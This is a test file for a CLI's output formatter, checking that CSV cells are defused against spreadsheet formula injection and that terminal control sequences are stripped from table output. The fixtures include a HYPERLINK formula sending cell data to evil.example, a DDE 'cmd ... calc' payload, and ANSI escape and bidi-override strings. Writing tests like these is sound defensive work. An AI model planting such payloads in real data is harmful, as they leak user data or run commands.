// What `pnpm query` prints is end-customer data (names, descriptions, metadata written by anyone):
// CSV must not turn a cell into a spreadsheet formula, and the table must not let a cell drive the
// terminal (issue #11 item 13).
import { describe, expect, it } from '@jest/globals';
import { formatResult } from '../src/output-format.js';

describe('csv', () => {
  it('neutralises cells that a spreadsheet would run as a formula, with a leading apostrophe (OWASP)', () => {
    const cells = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1', '\r=1'];
    const result = { columns: ['name'], rows: cells.map((name) => ({ name })) };
    const lines = formatResult(result, 'csv').split('\r\n');
    expect(lines.slice(1, 5)).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`, "'+1+1", `'-2+3+cmd|' /C calc'!A0`, "'@SUM(A1:A9)"]);
    expect(lines[5]).toBe("'\t=1");
    expect(formatResult(result, 'csv')).toContain(`"'\r=1"`);
  });

  it('leaves numbers (negative amounts too), ordinary text and NULL as they are', () => {
    const result = { columns: ['mrr_delta', 'email', 'note'], rows: [{ mrr_delta: -1500, email: 'a@b.example', note: null }] };
    expect(formatResult(result, 'csv')).toBe('mrr_delta,email,note\r\n-1500,a@b.example,\r\n');
  });

  it('neutralises a column name too', () => {
    expect(formatResult({ columns: ['=x'], rows: [] }, 'csv')).toBe("'=x\r\n");
  });
});

describe('table', () => {
  it('strips control characters: escape sequences, bell, C1 controls and bidirectional overrides', () => {
    const result = { columns: ['name'], rows: [{ name: 'a\u001b[2J\u001b]0;owned\u0007b\u009bc\u202eevil\u2066d' }] };
    const out = formatResult(result, 'table');
    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out.split('\n')[2]).toBe('a[2J]0;ownedbcevild');
  });

  it('keeps text readable: line breaks and tabs become spaces', () => {
    expect(formatResult({ columns: ['n'], rows: [{ n: 'x\r\n\ty' }] }, 'table').split('\n')[2]).toBe('x y');
  });
});
